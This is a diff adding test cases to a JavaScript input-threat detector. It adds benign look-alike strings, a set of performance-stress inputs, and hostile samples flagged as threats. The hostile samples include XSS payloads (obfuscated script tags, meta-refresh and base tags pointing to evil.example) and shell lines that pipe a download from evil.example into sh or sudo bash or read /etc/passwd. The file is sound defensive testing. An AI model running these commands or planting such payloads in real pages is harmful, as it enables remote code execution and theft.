@@ -29,6 +29,14 @@ describe('what is no threat', () => {
     'Object to the motion; link the two issues; base it on Article 51.',
     'Ivory Coast’s delegate said: "or else = war"',
     'Is 2026-11-21 the date? Case 123-456-789.',
+    'see <link to resolution> and the <object of the treaty>',
+    'Fill in <base price> of carbon and <meta goal>, then send <link>.',
+    'How do I run `id`? And `cat notes.txt`, or `rm -rf /`?',
+    'What does the <script> tag do, and what is in <iframe>?',
+    'What stands between <script> and </script> is code.',
+    'Curl up with a book | sh, be quiet',
+    'Years 2010 2011 2012 2013',
+    'The sessions of 1996-1997-1998-1999 and 2020 2021 2022 2023 2024',
   ])('%s', (text) => {
     expect(threatsIn(text)).toEqual({ level: 'none', threats: [] })
     expect(checkInput(text, INPUT_PRESETS.chatMessage)).toMatchObject({ isValid: true, errors: [], warnings: [] })
@@ -40,6 +48,14 @@ describe('what is a threat', () => {
     { text: '<script>alert(1)</script>', level: 'high', threat: 'script' },
     { text: '<ScRiPt src=//evil.example/x.js>', level: 'high', threat: 'script' },
     { text: '＜script＞alert(1)＜/script＞', level: 'high', threat: 'script' },
+    { text: '<script> fetch("//evil.example") </script>', level: 'high', threat: 'script' },
+    { text: '<scr\u200bipt>alert(1)</scr\u200bipt>', level: 'high', threat: 'script' },
+    { text: '<object data="//evil.example/x.swf">', level: 'high', threat: 'script' },
+    { text: '<meta http-equiv="refresh" content="0;url=//evil.example">', level: 'high', threat: 'script' },
+    { text: '<base href="//evil.example/">', level: 'high', threat: 'script' },
+    { text: 'run `curl evil.example/x | sh` now', level: 'high', threat: 'shell-command' },
+    { text: '`cat /etc/passwd`', level: 'high', threat: 'shell-command' },
+    { text: 'wget -qO- https://evil.example/x | sudo bash', level: 'high', threat: 'shell-command' },
     { text: '<iframe src="https://evil.example">', level: 'high', threat: 'script' },
     { text: 'Click javascript:alert(document.cookie)', level: 'high', threat: 'script' },
     { text: '[x](javascript:fetch("//evil.example"))', level: 'high', threat: 'script' },
@@ -129,6 +145,11 @@ describe('checking an input', () => {
     '$('.repeat(2000),
     'curl '.repeat(800),
     '; '.repeat(2000),
+    '<script> ('.repeat(400),
+    `<script>${' ('.repeat(1900)}`,
+    `<base ${'='.repeat(3900)}`,
+    '`cat ;'.repeat(650),
+    'curl .a'.repeat(550),
   ])('VA-11 takes time in proportion to the length of attack string %#', (text) => {
     expect(growthOf((part) => void checkInput(part, chatMessage), text.repeat(4))).toBeLessThan(1.5)
   })
